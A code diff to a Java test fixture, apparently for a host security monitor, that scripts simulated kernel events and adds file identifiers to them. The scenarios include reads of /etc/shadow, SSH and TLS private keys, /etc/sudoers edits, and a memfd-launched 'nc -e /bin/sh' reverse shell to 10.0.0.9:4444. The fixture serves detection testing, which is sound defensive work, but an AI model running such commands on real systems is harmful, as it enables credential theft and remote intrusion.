@@ -55,20 +55,21 @@ final class ScriptedSession {
         k.record(RawEvent.PROC_FORK, 100, 100, "bash").forkInfo(101, 101, 101, false, 2_000_000_000L).add();
         k.record(RawEvent.PROC_EXEC, 101, 101, "cat").ppid(100).string("/bin/cat").strings("cat", "/etc/shadow")
                 .strings("HOME=/root").execInfo(2002, 0x200000L, 0755, 0, 34816, 100, 101, 101).string("session-1.scope").add();
-        k.syscall(257, 101, "cat", 3, AT_FDCWD, 0, O_RDONLY | O_CLOEXEC, 0).string("/etc/shadow").add();
+        k.syscall(257, 101, "cat", 3, AT_FDCWD, 0, O_RDONLY | O_CLOEXEC, 0).string("/etc/shadow").fileId(0xFE01, 1311).add();
         k.syscall(3, 101, "cat", 0, 3).add();
         // Opens: relative to the cwd, a directory and relative to it, not normalised, failed, creating an executable.
-        k.syscall(257, 101, "cat", 3, AT_FDCWD, 0, O_RDONLY, 0).string("notes.txt").add();
-        k.syscall(257, 101, "cat", 4, AT_FDCWD, 0, O_RDONLY | O_DIRECTORY | O_CLOEXEC, 0).string("/etc").add();
-        k.syscall(257, 101, "cat", 5, 4, 0, O_RDONLY, 0).string("passwd").add();
-        k.syscall(257, 101, "cat", 6, AT_FDCWD, 0, O_RDWR | O_APPEND, 0).string("//dev/./null/").add();
-        k.syscall(257, 101, "cat", -2, AT_FDCWD, 0, O_RDONLY, 0).string("/nope/../etc/missing").add();
-        k.syscall(257, 101, "cat", 7, AT_FDCWD, 0, O_WRONLY | O_CREAT | O_TRUNC, 0755).string("/usr/local/bin/tool").add();
-        k.syscall(257, 101, "cat", 8, AT_FDCWD, 0, O_WRONLY | O_CREAT, 0644).string("/etc/cron.d/job").add();
-        k.syscall(2, 101, "cat", 9, 0, O_RDONLY, 0).string("/etc/hosts").add();
-        k.syscall(85, 101, "cat", 10, 0, 0700).string("/tmp/made").add();
+        k.syscall(257, 101, "cat", 3, AT_FDCWD, 0, O_RDONLY, 0).string("notes.txt").fileId(0xFE01, 2621).add();
+        k.syscall(257, 101, "cat", 4, AT_FDCWD, 0, O_RDONLY | O_DIRECTORY | O_CLOEXEC, 0).string("/etc").fileId(0xFE01, 1281).add();
+        k.syscall(257, 101, "cat", 5, 4, 0, O_RDONLY, 0).string("passwd").fileId(0xFE01, 1305).add();
+        k.syscall(257, 101, "cat", 6, AT_FDCWD, 0, O_RDWR | O_APPEND, 0).string("//dev/./null/").fileId(5, 4).add();
+        k.syscall(257, 101, "cat", -2, AT_FDCWD, 0, O_RDONLY, 0).string("/nope/../etc/missing").fileId(0, 0).add();
+        k.syscall(257, 101, "cat", 7, AT_FDCWD, 0, O_WRONLY | O_CREAT | O_TRUNC, 0755).string("/usr/local/bin/tool")
+                .fileId(0xFE01, 3901).add();
+        k.syscall(257, 101, "cat", 8, AT_FDCWD, 0, O_WRONLY | O_CREAT, 0644).string("/etc/cron.d/job").fileId(0xFE01, 1450).add();
+        k.syscall(2, 101, "cat", 9, 0, O_RDONLY, 0).string("/etc/hosts").fileId(0xFE01, 1290).add();
+        k.syscall(85, 101, "cat", 10, 0, 0700).string("/tmp/made").fileId(0xFE01, 131079).add();
         k.syscall(437, 101, "cat", 11, AT_FDCWD, 0, 24).string("/etc/group").openHow(O_RDWR | O_CREAT, 0711).add();
-        k.syscall(257, 101, "cat", -13, AT_FDCWD, 0, O_WRONLY, 0).string("/proc/1/mem").add();
+        k.syscall(257, 101, "cat", -13, AT_FDCWD, 0, O_WRONLY, 0).string("/proc/1/mem").fileId(0, 0).add();
         // Fds duplicated, closed, reused.
         k.syscall(32, 101, "cat", 12, 5).add();
         k.syscall(33, 101, "cat", 13, 5, 13).add();
@@ -101,7 +102,7 @@ final class ScriptedSession {
         k.syscall(22, 101, "cat", 0).fdPair(28, 29).add();
         // The cwd follows fchdir to /etc; relative paths resolve against it.
         k.syscall(81, 101, "cat", 0, 4).add();
-        k.syscall(257, 101, "cat", 30, AT_FDCWD, 0, O_RDONLY, 0).string("./shadow").add();
+        k.syscall(257, 101, "cat", 30, AT_FDCWD, 0, O_RDONLY, 0).string("./shadow").fileId(0xFE01, 1311).add();
         // Files and directories changed.
         k.syscall(59, 101, "cat", -2).string("/bin/nope").add();
         k.syscall(83, 101, "cat", 0, 0, 0755).string("/tmp/d").add();
@@ -140,12 +141,13 @@ final class ScriptedSession {
         k.syscall(157, 101, "cat", 0, 15).add();
         // A thread of cat opens a file; the thread exits, then cat does; an event of the gone process.
         k.record(RawEvent.PROC_FORK, 101, 101, "cat").forkInfo(102, 101, 102, true, 3_000_000_000L).add();
-        k.record(257, 101, 102, "cat").ret(34).args(AT_FDCWD, 0, O_RDONLY, 0).string("/etc/ssl/private/key.pem").add();
+        k.record(257, 101, 102, "cat").ret(34).args(AT_FDCWD, 0, O_RDONLY, 0).string("/etc/ssl/private/key.pem")
+                .fileId(0xFE01, 1720).add();
         k.record(RawEvent.PROC_EXIT, 101, 102, "cat").args(0).add();
         k.record(RawEvent.PROC_EXIT, 101, 101, "cat").args(1).add();
-        k.syscall(257, 101, "cat", 3, AT_FDCWD, 0, O_RDONLY, 0).string("/etc/shadow").add();
+        k.syscall(257, 101, "cat", 3, AT_FDCWD, 0, O_RDONLY, 0).string("/etc/shadow").fileId(0xFE01, 1311).add();
         // A process no record introduced.
-        k.syscall(257, 999, "ghost", 3, AT_FDCWD, 0, O_RDONLY, 0).string("/etc/shadow").add();
+        k.syscall(257, 999, "ghost", 3, AT_FDCWD, 0, O_RDONLY, 0).string("/etc/shadow").fileId(0xFE01, 1311).add();
         // A deep ancestry: bash > sshd > sh > python; python reads a key and runs nc from memfd on an overlay.
         k.record(RawEvent.PROC_FORK, 100, 100, "bash").forkInfo(400, 400, 400, false, 4_000_000_000L).add();
         k.record(RawEvent.PROC_EXEC, 400, 400, "sshd").ppid(100).string("/usr/sbin/sshd").strings("sshd", "-D")
@@ -156,7 +158,7 @@ final class ScriptedSession {
         k.record(RawEvent.PROC_FORK, 401, 401, "sh").forkInfo(402, 402, 402, false, 4_200_000_000L).add();
         k.record(RawEvent.PROC_EXEC, 402, 402, "python3").ppid(401).string("python3").strings("python3", "x.py")
                 .strings("TERM=xterm").execInfo(4020, 0, 0777, 1000, 34817, 401, 402, 401).string("ssh.service").add();
-        k.syscall(257, 402, "python3", 3, AT_FDCWD, 0, O_RDONLY, 0).string("/root/.ssh/id_rsa").add();
+        k.syscall(257, 402, "python3", 3, AT_FDCWD, 0, O_RDONLY, 0).string("/root/.ssh/id_rsa").fileId(0xFE01, 2650).add();
         k.record(RawEvent.PROC_FORK, 402, 402, "python3").forkInfo(403, 403, 403, false, 4_300_000_000L).add();
         k.record(RawEvent.PROC_EXEC, 403, 403, "nc").ppid(402).flags(RawEvent.FLAG_EXE_MEMFD | RawEvent.FLAG_EXE_OVERLAY)
                 .string("/proc/self/fd/3").strings("nc", "-e", "/bin/sh", "10.0.0.9", "4444").strings()
@@ -168,15 +170,16 @@ final class ScriptedSession {
                 .strings("vim", "/etc/sudoers").strings().execInfo(3000, 0, 0755, 0, 34818, 300, 300, 300)
                 .string("user-1000.slice").add();
         k.record(257, 300, 300, "vim").user(1000, 1000).loginuid(1000).ret(3).args(AT_FDCWD, 0, O_RDWR, 0)
-                .string("/etc/sudoers").add();
+                .string("/etc/sudoers").fileId(0xFE01, 1330).add();
         k.record(257, 300, 300, "vim").user(0, 0).loginuid(1000).ret(4).args(AT_FDCWD, 0, O_RDONLY, 0)
-                .string("/etc/sudoers").add();
+                .string("/etc/sudoers").fileId(0xFE01, 1330).add();
         // A container: its shell reads /etc/shadow and connects out.
         k.record(RawEvent.PROC_FORK, 100, 100, "bash").forkInfo(200, 200, 1, false, 6_000_000_000L).cgroup(CONTAINER_CGROUP).add();
         k.record(RawEvent.PROC_EXEC, 200, 200, "sh").ppid(100).cgroup(CONTAINER_CGROUP).string("/bin/sh").strings("sh")
                 .strings("PATH=/bin").execInfo(2000, 0xa80425fbL, 0755, 0, 0, 1, 1, 1)
                 .string("docker-3ad7b26ded6d0000000000000000000000000000000000000000000000000000.scope").add();
-        k.record(257, 200, 200, "sh").cgroup(CONTAINER_CGROUP).ret(3).args(AT_FDCWD, 0, O_RDONLY, 0).string("/etc/shadow").add();
+        k.record(257, 200, 200, "sh").cgroup(CONTAINER_CGROUP).ret(3).args(AT_FDCWD, 0, O_RDONLY, 0).string("/etc/shadow")
+                .fileId(0x34, 8401).add();
         k.record(42, 200, 200, "sh").cgroup(CONTAINER_CGROUP).ret(0).args(4)
                 .tuple(2, 1, 6, "172.17.0.2", 40100, "1.1.1.1", 443).add();
         k.record(RawEvent.PROC_EXIT, 200, 200, "sh").cgroup(CONTAINER_CGROUP).args(1).add();
